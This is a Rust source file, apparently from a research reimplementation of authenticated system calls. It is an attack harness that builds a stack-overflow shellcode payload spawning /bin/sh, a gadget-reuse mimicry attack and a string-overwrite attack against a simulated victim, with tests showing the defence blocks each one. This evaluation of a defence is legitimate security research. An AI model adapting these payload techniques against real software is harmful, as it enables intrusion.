@@ -1,0 +1,360 @@
+//! The attack harness: the code-injection experiments of §4.1 plus the
+//! Frankenstein attack and countermeasure of §5.5.
+//!
+//! Three attacks against the vulnerable `victim` workload (which reads a
+//! file name into a 64-byte stack buffer and runs `/bin/ls` on it):
+//!
+//! 1. **Shellcode injection** ([`AttackLab::shellcode_attack`]): overflow
+//!    the buffer, overwrite the return address, execute injected code that
+//!    issues `execve("/bin/sh")`. Succeeds against the unprotected binary;
+//!    against the installed binary the injected call carries no valid
+//!    policy/MAC and the process is killed.
+//! 2. **Mimicry via cross-application gadget reuse**
+//!    ([`AttackLab::mimicry_attack`]): inject an *authenticated* syscall
+//!    gadget lifted from a different installed application (with its
+//!    `.asc` data replicated). Fails because the call MAC covers the call
+//!    site, which now differs.
+//! 3. **Non-control-data attack**
+//!    ([`AttackLab::non_control_data_attack`]): corrupt the string
+//!    argument `"/bin/ls"` into `"/bin/sh"` in memory and let the program
+//!    reach its legitimate `execve`. Fails the authenticated-string check.
+//!
+//! The [`frankenstein`] module builds a program stitched from the
+//! authenticated calls of two other applications and shows that unique
+//! basic-block identifiers (the §5.5 countermeasure) stop it.
+
+pub mod frankenstein;
+
+use asc_crypto::MacKey;
+use asc_installer::{Installer, InstallerOptions};
+use asc_isa::{Instruction, Opcode, Reg, INSTR_LEN};
+use asc_kernel::{Kernel, KernelOptions, Personality};
+use asc_object::Binary;
+use asc_vm::{Machine, PageFlags, RunOutcome, StepOutcome};
+
+/// How an attack attempt ended.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub enum AttackOutcome {
+    /// The attack achieved its goal (e.g. `/bin/sh` executed).
+    Succeeded(String),
+    /// The kernel killed the process; the string is the alert.
+    Blocked(String),
+    /// The attack failed for an unexpected reason (harness bug).
+    Failed(String),
+}
+
+impl AttackOutcome {
+    /// Whether the attack was stopped by the monitor.
+    pub fn is_blocked(&self) -> bool {
+        matches!(self, AttackOutcome::Blocked(_))
+    }
+
+    /// Whether the attack achieved its goal.
+    pub fn is_success(&self) -> bool {
+        matches!(self, AttackOutcome::Succeeded(_))
+    }
+}
+
+/// The attack laboratory: the victim in unprotected and installed forms,
+/// plus a donor application for gadget theft.
+pub struct AttackLab {
+    key: MacKey,
+    victim_plain: Binary,
+    victim_auth: Binary,
+    donor_auth: Binary,
+}
+
+impl std::fmt::Debug for AttackLab {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("AttackLab").finish()
+    }
+}
+
+const PERSONALITY: Personality = Personality::Linux;
+
+/// Donor application for the mimicry experiment: an installed program
+/// whose authenticated `write` gadget the attacker lifts.
+const DONOR_SOURCE: &str = r#"
+fn main() {
+    write(1, "donor says hi\n", 14);
+    return 0;
+}
+"#;
+
+impl AttackLab {
+    /// Builds the victim (plain + installed) and the donor.
+    pub fn new(key: MacKey) -> AttackLab {
+        let spec = asc_workloads::program("victim").expect("victim registered");
+        let victim_plain = asc_workloads::build(spec, PERSONALITY).expect("victim builds");
+        let installer =
+            Installer::new(key.clone(), InstallerOptions::new(PERSONALITY).with_program_id(7));
+        let (victim_auth, _) = installer.install(&victim_plain, "victim").expect("installs");
+        let donor_plain =
+            asc_workloads::build_source(DONOR_SOURCE, PERSONALITY).expect("donor builds");
+        let donor_installer =
+            Installer::new(key.clone(), InstallerOptions::new(PERSONALITY).with_program_id(9));
+        let (donor_auth, _) = donor_installer.install(&donor_plain, "donor").expect("installs");
+        AttackLab { key, victim_plain, victim_auth, donor_auth }
+    }
+
+    /// The unprotected victim binary.
+    pub fn victim_plain(&self) -> &Binary {
+        &self.victim_plain
+    }
+
+    /// The installed victim binary.
+    pub fn victim_auth(&self) -> &Binary {
+        &self.victim_auth
+    }
+
+    fn machine(&self, binary: &Binary, stdin: &[u8]) -> Machine<Kernel> {
+        let opts = if binary.is_authenticated() {
+            KernelOptions::enforcing(PERSONALITY)
+        } else {
+            KernelOptions::plain(PERSONALITY)
+        };
+        let mut kernel = Kernel::new(opts);
+        if binary.is_authenticated() {
+            kernel.set_key(self.key.clone());
+        }
+        kernel.set_stdin(stdin.to_vec());
+        kernel.set_brk(binary.highest_addr());
+        Machine::load(binary, kernel).expect("victim fits")
+    }
+
+    /// Determines the stack address of the vulnerable buffer by
+    /// single-stepping a probe run up to the oversized `read` — the
+    /// deterministic layout an attacker would compute offline.
+    fn buffer_address(&self, binary: &Binary) -> u32 {
+        let mut m = self.machine(binary, b"probe\n");
+        for _ in 0..1_000_000 {
+            let fetched = m.mem().fetch(m.pc()).map(Instruction::decode);
+            if let Ok(Ok(instr)) = fetched {
+                if instr.op == Opcode::Syscall && m.reg(Reg::R0) == 3 && m.reg(Reg::R3) == 256 {
+                    return m.reg(Reg::R2); // buf argument of read(0, buf, 256)
+                }
+            }
+            if let StepOutcome::Done(outcome) = m.step() {
+                panic!("probe ended early: {outcome:?}");
+            }
+        }
+        panic!("oversized read not reached");
+    }
+
+    /// Builds the classic overflow payload: shellcode + `/bin/sh` string in
+    /// the buffer, then the overwritten `dst` pointer, saved frame pointer,
+    /// and return address pointing back into the buffer.
+    fn shellcode_payload(&self, binary: &Binary, shellcode: &[Instruction]) -> Vec<u8> {
+        let buf = self.buffer_address(binary);
+        // Where the corrupted `dst` pointer sends the victim's own copy:
+        // spare stack far below the payload (writable, harmless).
+        let scratch = buf - 0x800;
+        let needs_string =
+            shellcode.iter().any(|i| i.op == Opcode::Movi && i.imm == SH_PLACEHOLDER);
+        let code_len = shellcode.len() * asc_isa::INSTR_LEN;
+        let string_len = if needs_string { 8 } else { 0 };
+        assert!(code_len + string_len <= 64, "shellcode must fit the buffer");
+        let sh_addr = buf + code_len as u32;
+        // Patch the placeholder argument (R1) now that we know sh_addr.
+        let mut payload = Vec::with_capacity(80);
+        for instr in shellcode {
+            let mut i = *instr;
+            if i.op == Opcode::Movi && i.imm == SH_PLACEHOLDER {
+                i.imm = sh_addr;
+            }
+            payload.extend_from_slice(&i.encode());
+        }
+        if needs_string {
+            payload.extend_from_slice(b"/bin/sh\0");
+        }
+        payload.resize(64, 0x90);
+        payload.extend_from_slice(&scratch.to_le_bytes()); // dst
+        payload.extend_from_slice(&(scratch + 64).to_le_bytes()); // saved fp
+        payload.extend_from_slice(&buf.to_le_bytes()); // return address
+        payload.push(b'\n'); // consumed by the NUL-termination
+        payload
+    }
+
+    fn run_to_outcome(&self, binary: &Binary, stdin: &[u8]) -> (RunOutcome, Kernel) {
+        let mut m = self.machine(binary, stdin);
+        let outcome = m.run(100_000_000);
+        (outcome, m.into_handler())
+    }
+
+    fn classify(outcome: RunOutcome, kernel: &Kernel) -> AttackOutcome {
+        if kernel.exec_requests().iter().any(|p| p == "/bin/sh") {
+            return AttackOutcome::Succeeded("/bin/sh executed".into());
+        }
+        match outcome {
+            RunOutcome::Killed(msg) => AttackOutcome::Blocked(msg),
+            other => AttackOutcome::Failed(format!("{other:?}")),
+        }
+    }
+
+    /// Attack 1: classic shellcode injection (`execve("/bin/sh")` from the
+    /// stack). `protected` selects the installed or unprotected victim.
+    pub fn shellcode_attack(&self, protected: bool) -> AttackOutcome {
+        let binary = if protected { &self.victim_auth } else { &self.victim_plain };
+        let execve_nr = PERSONALITY.nr(asc_kernel::SyscallId::Execve).expect("execve") as u32;
+        let shellcode = [
+            Instruction::movi(Reg::R1, SH_PLACEHOLDER),
+            Instruction::movi(Reg::R2, 0),
+            Instruction::movi(Reg::R3, 0),
+            Instruction::movi(Reg::R0, execve_nr),
+            Instruction::syscall(),
+            Instruction::halt(),
+        ];
+        let payload = self.shellcode_payload(binary, &shellcode);
+        let (outcome, kernel) = self.run_to_outcome(binary, &payload);
+        Self::classify(outcome, &kernel)
+    }
+
+    /// Attack 2: mimicry by reusing an *authenticated* gadget lifted from
+    /// the donor application, with the donor's `.asc` data replicated at
+    /// its original addresses (heap-spray style).
+    pub fn mimicry_attack(&self) -> AttackOutcome {
+        let binary = &self.victim_auth;
+        // Lift the donor's authenticated write gadget: the argument +
+        // policy loads followed by the syscall.
+        let (gadget, donor_asc) = extract_gadget(&self.donor_auth);
+        let mut shellcode = gadget;
+        shellcode.push(Instruction::halt());
+        let payload = self.shellcode_payload(binary, &shellcode);
+
+        let mut m = self.machine(binary, &payload);
+        // Replicate the donor's .asc section into the victim's address
+        // space at the donor's addresses (the attacker's arbitrary-write /
+        // heap-spray step).
+        m.mem_mut().protect(donor_asc.0, donor_asc.1.len() as u32, PageFlags::RW);
+        m.mem_mut().kwrite(donor_asc.0, &donor_asc.1).expect("replicate .asc");
+        let outcome = m.run(100_000_000);
+        let kernel = m.into_handler();
+        if kernel
+            .trace()
+            .iter()
+            .any(|t| t.id == asc_kernel::SyscallId::Write && t.site != 0)
+            && kernel.stats().verified > 3
+        {
+            return AttackOutcome::Succeeded("stolen gadget executed".into());
+        }
+        Self::classify(outcome, &kernel)
+    }
+
+    /// Attack 3: non-control-data — overwrite the authenticated string
+    /// `"/bin/ls"` with `"/bin/sh"` and let the victim reach its
+    /// legitimate `execve`. `protected` selects the binary.
+    pub fn non_control_data_attack(&self, protected: bool) -> AttackOutcome {
+        let binary = if protected { &self.victim_auth } else { &self.victim_plain };
+        let mut m = self.machine(binary, b"/etc/motd\n");
+        // Find "/bin/ls" in the loaded image and overwrite it — for the
+        // authenticated binary that is the AS contents in .asc; for the
+        // plain binary it is the .rodata literal (which the attacker's
+        // write primitive can reach because the simulator models pre-NX
+        // hardware; we flip the page writable to model a WWW primitive).
+        let target = find_bytes(binary, b"/bin/ls\0").expect("literal present");
+        m.mem_mut().protect(target, 8, PageFlags::RW);
+        m.mem_mut().kwrite(target, b"/bin/sh\0").expect("overwrite");
+        let outcome = m.run(100_000_000);
+        let kernel = m.into_handler();
+        Self::classify(outcome, &kernel)
+    }
+}
+
+/// Placeholder immediate patched to the address of `/bin/sh` once the
+/// buffer address is known.
+const SH_PLACEHOLDER: u32 = 0xBBBB_BBBB;
+
+/// Finds `needle` in any section of the binary, returning its address.
+/// Prefers the `.asc` section (where the installer placed authenticated
+/// copies) over `.rodata`.
+pub fn find_bytes(binary: &Binary, needle: &[u8]) -> Option<u32> {
+    let search = |name: &str| -> Option<u32> {
+        let s = binary.section_by_name(name)?;
+        s.data
+            .windows(needle.len())
+            .position(|w| w == needle)
+            .map(|off| s.addr + off as u32)
+    };
+    search(".asc").or_else(|| search(".rodata"))
+}
+
+/// Extracts the first authenticated syscall gadget from an installed
+/// binary: the maximal run of `movi` instructions feeding a `syscall`,
+/// plus the binary's `.asc` section `(addr, bytes)` for replication.
+pub fn extract_gadget(binary: &Binary) -> (Vec<Instruction>, (u32, Vec<u8>)) {
+    let text = binary.section_by_name(".text").expect("text");
+    let instrs: Vec<Instruction> = text
+        .data
+        .chunks_exact(INSTR_LEN)
+        .map(|c| Instruction::decode(c).expect("installed binaries decode"))
+        .collect();
+    let sys_idx = instrs
+        .iter()
+        .position(|i| i.op == Opcode::Syscall)
+        .expect("installed binary has syscalls");
+    let mut start = sys_idx;
+    while start > 0 && instrs[start - 1].op == Opcode::Movi {
+        start -= 1;
+    }
+    let gadget = instrs[start..=sys_idx].to_vec();
+    let asc = binary.section_by_name(".asc").expect("installed binary has .asc");
+    (gadget, (asc.addr, asc.data.clone()))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const AT_TACK: u64 = 0xA77A;
+
+    #[test]
+    fn shellcode_succeeds_unprotected() {
+        let lab = AttackLab::new(MacKey::from_seed(AT_TACK));
+        let outcome = lab.shellcode_attack(false);
+        assert!(outcome.is_success(), "{outcome:?}");
+    }
+
+    #[test]
+    fn shellcode_blocked_when_protected() {
+        let lab = AttackLab::new(MacKey::from_seed(AT_TACK));
+        let outcome = lab.shellcode_attack(true);
+        assert!(outcome.is_blocked(), "{outcome:?}");
+    }
+
+    #[test]
+    fn mimicry_blocked() {
+        let lab = AttackLab::new(MacKey::from_seed(AT_TACK));
+        let outcome = lab.mimicry_attack();
+        assert!(outcome.is_blocked(), "{outcome:?}");
+        // Specifically: the stolen gadget's MAC does not match the new
+        // call site.
+        let AttackOutcome::Blocked(msg) = outcome else { unreachable!() };
+        assert!(msg.contains("call MAC"), "{msg}");
+    }
+
+    #[test]
+    fn non_control_data_succeeds_unprotected() {
+        let lab = AttackLab::new(MacKey::from_seed(AT_TACK));
+        let outcome = lab.non_control_data_attack(false);
+        assert!(outcome.is_success(), "{outcome:?}");
+    }
+
+    #[test]
+    fn non_control_data_blocked_when_protected() {
+        let lab = AttackLab::new(MacKey::from_seed(AT_TACK));
+        let outcome = lab.non_control_data_attack(true);
+        assert!(outcome.is_blocked(), "{outcome:?}");
+        let AttackOutcome::Blocked(msg) = outcome else { unreachable!() };
+        assert!(msg.contains("string MAC"), "{msg}");
+    }
+
+    #[test]
+    fn benign_input_works_on_both() {
+        let lab = AttackLab::new(MacKey::from_seed(AT_TACK));
+        for binary in [lab.victim_plain(), lab.victim_auth()] {
+            let (outcome, kernel) = lab.run_to_outcome(binary, b"/etc/motd\n");
+            assert_eq!(outcome, RunOutcome::Exited(0), "alerts: {:?}", kernel.alerts());
+            assert_eq!(kernel.exec_requests(), &["/bin/ls".to_string()]);
+        }
+    }
+}
